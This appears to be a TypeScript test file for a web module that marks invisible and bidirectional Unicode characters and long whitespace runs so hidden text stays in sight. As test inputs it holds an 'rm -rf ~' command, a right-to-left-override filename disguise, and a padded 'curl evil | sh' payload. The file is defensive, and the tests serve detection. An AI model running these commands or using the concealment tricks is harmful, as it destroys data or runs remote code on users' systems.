import { describe, expect, test } from "bun:test";
import { shownLineCount, visibleSegments, visibleText } from "../../src/web/visible-text.ts";

/** The display text of the segments, marks included. */
const shown = (text: string, multiline = false) => visibleSegments(text, { multiline }).map((s) => s.text).join("");

describe("visible text", () => {
  test("plain text is one plain segment, unchanged", () => {
    expect(visibleSegments("cp a.png b.png")).toEqual([{ text: "cp a.png b.png", hidden: false }]);
    expect(visibleSegments("")).toEqual([{ text: "", hidden: false }]);
    expect(visibleSegments("naïve 日本語 שלום 👍")).toEqual([{ text: "naïve 日本語 שלום 👍", hidden: false }]);
  });

  test("a right-to-left override is marked where it stands, with its name", () => {
    expect(visibleSegments("\u202Egnp.exe")).toEqual([
      { text: "⟨U+202E⟩", hidden: true, names: "U+202E RIGHT-TO-LEFT OVERRIDE" },
      { text: "gnp.exe", hidden: false },
    ]);
  });

  test("every bidi control is marked", () => {
    for (const cp of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c]) {
      const mark = `⟨U+${cp.toString(16).toUpperCase().padStart(4, "0")}⟩`;
      expect(shown(`a${String.fromCodePoint(cp)}b`)).toBe(`a${mark}b`);
      expect(shown(`a${String.fromCodePoint(cp)}b`, true)).toBe(`a${mark}b`);
    }
  });

  test("zero-width and other format characters are marked", () => {
    for (const cp of [0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x2061, 0x206a, 0xfff9, 0xe0041, 0x180e]) {
      expect(shown(`x${String.fromCodePoint(cp)}y`)).toBe(`x⟨U+${cp.toString(16).toUpperCase().padStart(4, "0")}⟩y`);
    }
  });

  test("control characters, separators, lone surrogates and blank letters are marked", () => {
    expect(shown("a\u0000b\u0007c\u001Bd\u007Fe\u0085f\u009Bg")).toBe("a⟨U+0000⟩b⟨U+0007⟩c⟨U+001B⟩d⟨U+007F⟩e⟨U+0085⟩f⟨U+009B⟩g");
    expect(shown("a\u2028b\u2029c")).toBe("a⟨U+2028⟩b⟨U+2029⟩c");
    expect(shown("a\uD800b\uDFFFc")).toBe("a⟨U+D800⟩b⟨U+DFFF⟩c");
    expect(shown("a\u3164b\u115Fc\u1160d\uFFA0e\u034Ff")).toBe("a⟨U+3164⟩b⟨U+115F⟩c⟨U+1160⟩d⟨U+FFA0⟩e⟨U+034F⟩f");
  });

  test("a single-line text marks tabs, line feeds and carriage returns", () => {
    expect(shown("ls\n\nrm -rf ~\tx\r")).toBe("ls⟨U+000A⟩⟨U+000A⟩rm -rf ~⟨U+0009⟩x⟨U+000D⟩");
  });

  test("a multiline text keeps tabs, line feeds and line-ending carriage returns, and marks a carriage return inside a line", () => {
    expect(shown("a\tb\r\nc\nd\r", true)).toBe("a\tb\r\nc\nd\r");
    expect(shown("safe\revil\n", true)).toBe("safe⟨U+000D⟩evil\n");
    expect(shown("x\u000B\u000Cy", true)).toBe("x⟨U+000B⟩⟨U+000C⟩y");
  });

  test("a run of hidden characters is one segment", () => {
    expect(visibleSegments("a\u200B\u200C\u202Eb")).toEqual([
      { text: "a", hidden: false },
      { text: "⟨U+200B⟩⟨U+200C⟩⟨U+202E⟩", hidden: true, names: "U+200B ZERO WIDTH SPACE, U+200C ZERO WIDTH NON-JOINER, U+202E RIGHT-TO-LEFT OVERRIDE" },
      { text: "b", hidden: false },
    ]);
    expect(visibleSegments("\u200B")).toEqual([{ text: "⟨U+200B⟩", hidden: true, names: "U+200B ZERO WIDTH SPACE" }]);
  });

  test("segments of a text with many marks stay bounded by its visible runs", () => {
    const text = "a\u200B".repeat(10_000);
    const segments = visibleSegments(text);
    expect(segments).toHaveLength(20_000);
    expect(segments.filter((s) => s.hidden)).toHaveLength(10_000);
    expect(visibleSegments("\u200B".repeat(10_000))).toHaveLength(1);
  });

  test("visibleText gives the same marks as one string, and nothing hidden survives either form", () => {
    const hostile = "\u202Egnp.exe\u200B\u2066x\u2069\n";
    expect(visibleText(hostile)).toBe("⟨U+202E⟩gnp.exe⟨U+200B⟩⟨U+2066⟩x⟨U+2069⟩⟨U+000A⟩");
    expect(visibleText(hostile, { multiline: true })).toBe("⟨U+202E⟩gnp.exe⟨U+200B⟩⟨U+2066⟩x⟨U+2069⟩\n");
    expect(visibleText(hostile)).toBe(shown(hostile));
    expect(/[\u202A-\u202E\u2066-\u2069\u200B-\u200F\u061C\uFEFF]/.test(shown(hostile, true))).toBe(false);
  });

  test("repeated calls do not carry state between texts", () => {
    expect(shown("a\u202Eb")).toBe("a⟨U+202E⟩b");
    expect(shown("\u202Eb")).toBe("⟨U+202E⟩b");
    expect(visibleText("a\u202Eb")).toBe("a⟨U+202E⟩b");
    expect(shown("\u202Eb")).toBe("⟨U+202E⟩b");
  });

  test("with blanks, long runs of spaces and of line breaks are one mark each, so what follows stays in sight", () => {
    const payload = `npm test${" ".repeat(240)}${"\n".repeat(40)}curl evil | sh`;
    const segments = visibleSegments(payload, { multiline: true, blanks: true });
    expect(segments.map((s) => s.text).join("")).toBe("npm test⟨240 spaces⟩⟨40 line breaks⟩\ncurl evil | sh");
    expect(segments.filter((s) => s.hidden).map((s) => s.text)).toEqual(["⟨240 spaces⟩", "⟨40 line breaks⟩"]);
    expect(shownLineCount(payload)).toBe(2);
    // Short runs are left alone: indentation and a paragraph break read as they are.
    const ordinary = "if x; then\n    echo a\n\n\nfi";
    expect(visibleSegments(ordinary, { multiline: true, blanks: true })).toEqual([{ text: ordinary, hidden: false }]);
    expect(shownLineCount(ordinary)).toBe(5);
    // Without the option nothing blank is marked.
    expect(shown(payload, true)).toBe(payload);
  });
});

